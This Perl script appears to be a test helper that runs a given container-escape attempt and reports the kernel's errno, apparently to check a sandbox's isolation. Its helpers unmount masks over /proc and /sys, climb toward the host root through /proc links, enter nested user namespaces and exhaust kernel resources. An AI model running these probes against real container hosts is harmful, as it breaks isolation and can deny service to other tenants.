# Tries one attack from inside a container and prints what the kernel says: 0 if it goes through, else the errno.
# `nested` before it: as root of namespaces below the container's. Perl of a minimal system, hence no modules.
$| = 1;
open(STDERR, ">&STDOUT");
my $nested = $ARGV[0] eq 'nested' ? shift @ARGV : '';

# A system call by its number on amd64; texts are passed as pointers and end themselves with \0.
sub call { my ($number, @copy) = @_; return syscall($number, @copy) != -1 }
sub put { my ($path, $text) = @_; my $file; return sysopen($file, $path, 1) && defined syswrite($file, $text) }
# Whether something can be read from a file.
sub got { my ($path) = @_; my ($file, $bytes); return sysopen($file, $path, 0) && sysread($file, $bytes, 64) }
sub made { my ($kind, $target, $flags, $data) = @_; return call(165, "none\0", "$target\0", "$kind\0", $flags || 0, ($data || '') . "\0") }
sub flagged { my ($target, $flags) = @_; return call(165, "none\0", "$target\0", "none\0", $flags, "\0") }
sub unmade { my ($target) = @_; return call(166, "$target\0", 2) }
sub descriptor { my ($path) = @_; sysopen(my $file, $path, 0) or return -1; push @kept, $file; return fileno $file }
# Sends itself a signal that waits.
sub queued { call(14, 0, pack('Q', 1 << 39), 0, 8); return call(129, $$, 40, pack('i3 x116', 40, 0, -1)) }
# Takes one thing after the other until the kernel refuses; keeps them until its input ends.
sub hoard { my ($take) = @_; my $taken = 0; $taken++ while $taken < 200000 && $take->($taken); print "$taken: $!\n"; readline STDIN; return 1 }
# Takes away whatever covers something of /proc and /sys.
sub unmask {
    open(my $table, '<', '/proc/self/mountinfo');
    my @covers = grep { m{^/(proc|sys)/} } map { (split ' ')[4] } <$table>;
    unmade($_) for reverse @covers;
}
# Whether the host's own tree is in sight: `$ENV{CANARY}` is a file of it. The plainest ways up first.
sub outside {
    chdir '..' for 1 .. 64;
    return grep { -e "$_$ENV{CANARY}" } '', '.', '/proc/1/root', '/proc/self/root', '/proc/self/cwd', map { "/proc/self/fd/$_" } 0 .. 9;
}
# All files below a folder that open for writing, without links and mounts of other file systems' names in `$skip`.
sub writable {
    my ($folder, $skip) = @_;
    opendir(my $entries, $folder) or return ();
    my @open;
    for my $path (map { "$folder/$_" } sort grep { !/^\.\.?$/ } readdir $entries) {
        next if -l $path || $path =~ $skip;
        if (-d _) { push @open, writable($path, $skip) }
        elsif (-f _ && sysopen(my $file, $path, 1)) { push @open, $path }
    }
    return @open;
}

sub attempt {
    my ($code) = @_;
    $! = 0;
    my $went_through = eval $code;
    my $errno = $! + 0;
    die $@ if $@;
    print $went_through ? 0 : $errno || -1, "\n";
    exit;
}

call(272, 0x20000) or die "unshare: $!";
attempt($ARGV[0]) unless $nested;

# All other namespaces with a user namespace, whose root is the container's; its first process attacks.
call(272, 0x7E020000) or die "unshare: $!";
put('/proc/self/setgroups', 'deny') && put('/proc/self/uid_map', '0 0 1') && put('/proc/self/gid_map', '0 0 1') or die "maps: $!";
my $first = fork;
attempt($ARGV[0]) unless $first;
waitpid $first, 0;
